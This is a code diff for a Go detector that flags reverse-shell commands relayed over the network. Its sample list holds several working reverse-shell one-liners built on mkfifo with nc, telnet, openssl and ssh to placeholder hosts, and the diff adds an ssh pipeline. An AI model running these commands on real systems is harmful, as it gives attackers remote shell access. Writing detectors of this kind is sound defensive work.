@@ -35,6 +35,7 @@ var shellNetRelay = Detector{
 		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.test:443 > /tmp/s",
 		"mknod /tmp/b p; telnet 198.51.100.7 4444 0</tmp/b | /bin/bash 1>/tmp/b",
 		"TF=$(mktemp -u); mkfifo $TF && telnet 198.51.100.7 99 0<$TF | sh 1>$TF",
+		"ssh a@198.51.100.7 'tail -f in' | bash | ssh a@198.51.100.7 'cat > out'",
 		"mkfifo x; nc 198.51.100.7 9 <x | bash >x 2>&1",
 		"cp /bin/nc /tmp/n; mkfifo /tmp/f; /bin/bash < /tmp/f | /tmp/n 198.51.100.7 1 > /tmp/f",
 	), Sample{Level: coi.High, Events: graphSample(
@@ -92,7 +93,7 @@ func reach(c *command.Command, s *command.Simple, up bool) *command.Simple {
 				if seen[b] || !flows(b, a) && up || !flows(a, b) && !up {
 					continue
 				}
-				if b.Class() == program.Relay {
+				if b.Class() == program.Relay || b.Name == "ssh" && len(b.Parsed().Rest) > 1 {
 					return b
 				}
 				seen[b] = true
@@ -107,7 +108,7 @@ func reach(c *command.Command, s *command.Simple, up bool) *command.Simple {
 // flows reports whether the output of a reaches b: by pipe, or by a file that a
 // writes and b reads.
 func flows(a, b *command.Simple) bool {
-	if slices.Contains(b.Stdin, a) {
+	if slices.Contains(b.Stdin, a) || a.Parent != nil && a.FDs[1] == "pipe" && slices.Contains(b.Stdin, a.Parent) {
 		return true
 	}
 	outs := map[string]bool{}
